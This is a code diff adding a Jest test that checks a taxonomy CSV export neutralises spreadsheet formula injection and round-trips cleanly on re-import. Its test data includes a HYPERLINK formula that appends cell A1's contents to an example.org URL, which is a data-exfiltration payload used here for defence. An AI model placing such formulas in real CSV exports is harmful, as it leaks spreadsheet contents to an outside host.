@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
-import { readFile } from 'node:fs/promises';
+import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { createEscoFolder, smallDownload, type EscoFolder } from '../support/esco-folder.js';
 import { runCommand } from '../support/support-command.js';
 import { settingsFor } from '../support/support-process.js';
@@ -102,5 +103,31 @@ describe('taxonomy import csv', () => {
     await run('export', id, copy);
     expect(await readFile(copy, 'utf8')).toBe(text);
     expect((await run('export', id, copy)).stderr).toContain('cannot be written');
+  });
+
+  it('writes no cell that a spreadsheet takes for a formula, and reads each again as it was', async () => {
+    const { id } = await database.createOrganisation('Formulas');
+    const formula = '=HYPERLINK("http://example.org/?"&A1,"look")';
+    const quoted = `"${formula.replaceAll('"', '""')}"`;
+    const given = join(folder.path, 'formulas.csv');
+    const rows = [`-1,knowledge,${quoted},@SUM(1),+31 20,-,=1+1|@b,-c,@2`, `@2,knowledge,''=kept,'s Avonds,-x,,,,`, `＋3,knowledge,＝1,,,,,,`];
+    await writeFile(given, ['key,type,name_en,name_nl,description_en,description_nl,synonyms_en,synonyms_nl,related', ...rows].join('\n'));
+    const imported = async (organisation: string, file: string) => (await runCommand(settingsFor(database.url), 'taxonomy', 'import', 'csv', organisation, file, '--json')).json;
+    expect(await imported(id, given)).toEqual({ created: 3, updated: 0 });
+    const namesOf = async (ownerId: string) => {
+      const skills = await database.foundation.database.client.skill.findMany({ where: { ownerId }, orderBy: { sourceKey: 'asc' }, include: { translations: { orderBy: { language: 'asc' } }, synonyms: { orderBy: { label: 'asc' } } } });
+      return skills.map(({ sourceKey, translations, synonyms }) => [sourceKey, ...translations.flatMap(({ name, description }) => [name, description]), ...synonyms.map(({ label }) => label)]);
+    };
+    const stored = await namesOf(id);
+    expect(stored).toEqual([['-1', formula, '+31 20', '@SUM(1)', '-', '-c', '=1+1', '@b'], ['@2', "'=kept", '-x', "'s Avonds", ''], ['＋3', '＝1', '']]);
+
+    const file = join(folder.path, 'formulas-exported.csv');
+    await runCommand(settingsFor(database.url), 'taxonomy', 'export', id, file);
+    const cells = parse(await readFile(file, 'utf8')) as string[][];
+    expect(cells.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+    expect(cells.flat()).toContain("'s Avonds");
+    const { id: copy } = await database.createOrganisation('Copied formulas');
+    expect(await imported(copy, file)).toEqual({ created: 3, updated: 0 });
+    expect(await namesOf(copy)).toEqual(stored);
   });
 });
